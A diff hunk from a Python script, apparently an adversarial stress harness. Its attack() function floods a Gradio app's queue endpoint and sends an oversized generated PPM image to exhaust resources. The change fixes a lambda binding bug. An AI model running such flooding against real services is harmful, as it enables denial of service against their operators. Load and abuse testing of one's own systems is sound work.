@@ -71,7 +71,7 @@ def attack(url: str, stop: threading.Event, rounds: list[int]) -> None:
         acts += [lambda c=chunked: attacker.pour("/gradio_api/queue/join", 150, c) for chunked in (True, False)]
         acts += [lambda: attacker.call([{"url": grey}, "", ""])] * 2
         acts += [lambda: attacker.call([{"url": data_url(b"P3\n2000 2000\n255\n" + b"7 " * 2_000_000)}, "", ""]), films]
-        acts += [lambda n=n: attacker.call([{"url": sent_by(0)}, labels(now + n), "ensemble10"]) for n in range(4)]
+        acts += [lambda n=now + n: attacker.call([{"url": sent_by(0)}, labels(n), "ensemble10"]) for n in range(4)]
         with ThreadPoolExecutor(8) as pool:
             for act in acts:
                 pool.submit(act)
